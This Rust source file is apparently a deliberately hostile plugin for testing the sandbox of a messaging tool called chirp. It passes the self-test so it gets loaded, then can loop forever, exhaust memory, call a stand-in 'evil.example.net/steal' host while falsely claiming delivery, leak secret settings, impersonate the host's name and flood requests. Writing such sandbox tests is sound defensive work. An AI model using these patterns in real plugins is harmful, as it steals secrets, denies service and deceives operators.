//! A provider that misbehaves on purpose, for chirp's sandbox tests (see
//! README.md). It behaves during chirp's self-test so that it gets loaded.
//!
//! Its name, the extra settings it declares and its default mode are fixed
//! at build time (`HOSTILE_NAME`, `HOSTILE_SETTINGS`, `HOSTILE_MODE`), so
//! the tests can build one that calls itself `chirp` and asks for
//! `jwt-secret`.

wit_bindgen::generate!({
    path: "../../wit",
    world: "provider",
});

use chirp::plugin::log::{self, Level};
use chirp::plugin::types::{Descriptor, Failure, Message, Receipt, SendError, Setting};
use chirp::plugin::{config, http};
use exports::chirp::plugin::delivery::Guest;

struct Hostile;

fn setting(name: &str, default_value: Option<&str>) -> Setting {
    Setting {
        name: name.into(),
        required: false,
        secret: false,
        default_value: default_value.map(Into::into),
        description: "set by the test".into(),
    }
}

/// The extra settings this build declares.
fn extra_settings() -> Vec<String> {
    option_env!("HOSTILE_SETTINGS")
        .unwrap_or("")
        .split(',')
        .filter(|s| !s.is_empty())
        .map(str::to_string)
        .collect()
}

/// A failure whose message carries what the plugin found: the test reads
/// it in the attempt's `error_message`.
fn report(code: &str, message: String) -> Result<Receipt, SendError> {
    Err(SendError::Permanent(Failure {
        code: code.into(),
        message,
    }))
}

impl Guest for Hostile {
    fn describe() -> Descriptor {
        let mut settings = vec![
            setting("mode", Some(option_env!("HOSTILE_MODE").unwrap_or("trap"))),
            setting("target", None),
            setting("hosts", None),
            setting("header", None),
        ];
        settings.extend(extra_settings().iter().map(|name| setting(name, None)));
        let mut hosts = vec!["api.example.com".to_string()];
        hosts.extend(
            config::get("hosts")
                .unwrap_or_default()
                .split(',')
                .filter(|h| !h.is_empty())
                .map(str::to_string),
        );
        Descriptor {
            name: option_env!("HOSTILE_NAME").unwrap_or("hostile").into(),
            version: "6.6.6".into(),
            settings,
            hosts,
        }
    }

    fn send(msg: Message) -> Result<Receipt, SendError> {
        if msg.id == "self-test" {
            return Ok(Receipt {
                provider_message_id: None,
            });
        }
        let get = |url: String, headers: Vec<(String, String)>| {
            http::fetch(&http::Request {
                method: "GET".into(),
                url,
                headers,
                body: vec![],
                timeout_ms: Some(2_000),
            })
        };
        match config::get("mode").as_deref() {
            Some("loop") => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            Some("memory") => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            Some("forbidden") => {
                let _ = get("https://evil.example.net/steal".into(), vec![]);
                Ok(Receipt {
                    provider_message_id: Some("i-swear-it-was-sent".into()),
                })
            }
            Some("garbage") => Ok(Receipt {
                provider_message_id: Some("x".repeat(1 << 20)),
            }),
            // Every setting it declared, with the value the host gave.
            Some("leak") => {
                let found: Vec<String> = extra_settings()
                    .iter()
                    .map(|name| format!("{name}={}", config::get(name).unwrap_or_default()))
                    .collect();
                report("leak", found.join(";"))
            }
            // One request to each URL in `target` (`|`-separated), with the
            // `header` setting (`name:value`) if given; reports each answer.
            Some("fetch") => {
                let headers = config::get("header")
                    .and_then(|h| {
                        let (name, value) = h.split_once(':')?;
                        Some(vec![(name.to_string(), value.to_string())])
                    })
                    .unwrap_or_default();
                let answers: Vec<String> = config::get("target")
                    .unwrap_or_default()
                    .split('|')
                    .map(|url| match get(url.to_string(), headers.clone()) {
                        Ok(response) => format!("{url} -> {}", response.status),
                        Err(e) => format!("{url} -> {e:?}"),
                    })
                    .collect();
                report("fetched", answers.join("; "))
            }
            // Asks for far more than a call may have: 10,000 log lines of
            // 1 KB, then 100 requests to `target`.
            Some("flood") => {
                for n in 0..10_000 {
                    log::log(
                        Level::Error,
                        &format!("flood line {n}: {}", "x".repeat(1000)),
                    );
                }
                let target = config::get("target").unwrap_or_default();
                let answered = (0..100)
                    .filter(|_| get(target.clone(), vec![]).is_ok())
                    .count();
                report("flooded", format!("{answered} requests answered"))
            }
            _ => panic!("hostile plugin traps on purpose"),
        }
    }
}

export!(Hostile);
